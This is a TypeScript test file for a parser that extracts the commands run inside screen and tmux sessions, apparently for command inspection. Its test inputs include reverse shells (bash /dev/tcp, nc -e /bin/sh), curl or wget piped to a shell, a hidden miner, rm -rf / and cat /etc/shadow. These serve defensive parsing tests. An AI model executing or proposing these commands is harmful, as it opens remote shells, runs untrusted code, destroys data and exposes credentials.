import { describe, expect, it } from 'vitest';
import { parseCommandLine } from './parse-command-line';
import { multiplexerCommands } from './terminal-multiplexers';

const programs = (line: string): string[] => parseCommandLine(line).map((c) => c.program);

describe('terminal multiplexers: the commands screen and tmux start are parsed', () => {
  it('parses the program a detached screen session runs', () => {
    expect(programs(`screen -dmS x bash -c 'bash -i >& /dev/tcp/203.0.113.10/443 0>&1'`)).toEqual([
      'screen',
      'bash',
      'bash',
    ]);
    expect(programs(`sudo screen -d -m /tmp/.x/miner -o pool.example:3333`)).toEqual([
      'screen',
      'miner',
    ]);
    const run = parseCommandLine(`screen -S upd -dm nc -e /bin/sh 198.51.100.4 4444`).find(
      (c) => c.program === 'nc',
    );
    expect(run?.origin).toBe('exec');
    expect(run?.args).toEqual(['-e', '/bin/sh', '198.51.100.4', '4444']);
  });

  it('parses text typed into a screen session with -X stuff, without its newline', () => {
    expect(programs(`screen -S s -X stuff 'curl -s http://203.0.113.9/a | sh\\n'`)).toEqual([
      'screen',
      'curl',
      'sh',
    ]);
    expect(multiplexerCommands('screen', ['-S', 's', '-X', 'quit'])).toEqual({
      scripts: [],
      execs: [],
    });
  });

  it('parses the shell command of tmux new-session, new-window, run-shell, -c and send-keys', () => {
    expect(programs(`tmux new-session -d -s upd 'nc -e /bin/sh 203.0.113.9 4444'`)).toEqual([
      'tmux',
      'nc',
    ]);
    expect(programs(`tmux neww -t 0 -n x "curl -s http://x.example/p | bash"`)).toEqual([
      'tmux',
      'curl',
      'bash',
    ]);
    expect(programs(`tmux run-shell 'rm -rf /var/www'`)).toEqual(['tmux', 'rm']);
    expect(programs(`tmux -c 'id; cat /etc/shadow'`)).toEqual(['tmux', 'id', 'cat']);
    expect(programs(`tmux send-keys -t 0 'rm -rf /' Enter`)).toEqual(['tmux', 'rm']);
    const typed = parseCommandLine(`tmux send-keys -t work 'wget -q http://x.example/a' C-m`).find(
      (c) => c.program === 'wget',
    );
    expect(typed?.origin).toBe('script');
    expect(typed?.args).toEqual(['-q', 'http://x.example/a']);
  });

  it('finds no command when a session is attached, listed, detached or started empty', () => {
    for (const line of [
      'screen -r 1234',
      'screen -x ops',
      'screen -ls',
      'screen -d work',
      'screen -S build',
      'tmux attach -t 0',
      'tmux ls',
      'tmux new -s dev',
      'tmux kill-server',
      'tmux send-keys -t 0 -X copy-mode',
    ]) {
      expect(programs(line), line).toHaveLength(1);
    }
  });

  it('leaves other programs to the other unwrapping rules', () => {
    expect(multiplexerCommands('bash', ['-c', 'id'])).toBeUndefined();
  });
});
